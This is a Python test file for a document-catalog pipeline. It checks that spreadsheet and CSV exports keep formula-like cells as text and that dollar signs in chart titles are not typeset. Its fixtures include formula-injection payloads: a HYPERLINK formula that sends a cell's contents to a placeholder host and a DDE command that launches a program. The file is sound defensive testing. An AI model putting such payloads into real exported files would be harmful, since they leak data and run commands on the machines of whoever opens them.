"""Hostile text in outputs people open: formulas in spreadsheets and CSVs, math markup in figures."""

from __future__ import annotations

import io

import pandas as pd
from conftest import CORPUS, SEEDS

from pipeline import catalog
from pipeline.report.export import build_workbook

SEED = (CORPUS / "raw" / f"{SEEDS['qingdao']}.txt").read_text(encoding="utf-8")
LINE = next(line.strip() for line in SEED.splitlines() if len(line.strip()) > 20)
HOSTILE = [
    f'=HYPERLINK("http://example.invalid/?q="&A1,"{LINE[:10]}")',
    "=cmd|' /C calc'!A0",
    f"+{LINE[:12]}",
    f"-{LINE[:12]}",
    f"@SUM(1+1){LINE[:8]}",
    LINE,
]


def test_csv_cells_that_would_be_formulas_stay_text(tmp_path):
    df = pd.DataFrame({"text": HOSTILE, "n": range(len(HOSTILE))})
    catalog.write_table(df, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv")
    assert all(v.startswith("'") for v in back.text[:5])
    assert back.text[5] == LINE  # ordinary text is not touched
    assert [v[1:] for v in back.text[:5]] == HOSTILE[:5]
    assert df.text.tolist() == HOSTILE  # the caller's frame is unchanged


def test_xlsx_cells_that_would_be_formulas_are_strings():
    import openpyxl

    docs = pd.DataFrame({"doc_id": ["d"], "title": [HOSTILE[0]]})
    items = pd.DataFrame({"doc_id": ["d"] * len(HOSTILE), "item": HOSTILE})
    matrix = pd.DataFrame({"city": ["青岛市"], "problem": [1]})
    practice = pd.DataFrame({"item": [HOSTILE[1]], "青岛市": [1]}).set_index("item")
    wb = openpyxl.load_workbook(io.BytesIO(build_workbook(docs, items, matrix, practice)))
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    assert wb["theme_items"]["B2"].value == HOSTILE[0]  # the text itself, shown as text


def test_dollar_signs_in_document_text_are_not_typeset(tmp_path):
    from pipeline.report.figures import save_figure, setup_style

    setup_style()
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    label = f"{LINE[:6]} $x_1$ 和 $ 5"
    ax.set_title(label)
    paths = save_figure(fig, pd.DataFrame({"label": [label]}), "dollars", tmp_path, formats=("png",))
    assert paths and all(p.exists() for p in paths)
    assert ax.title.get_text() == label
    plt.close(fig)
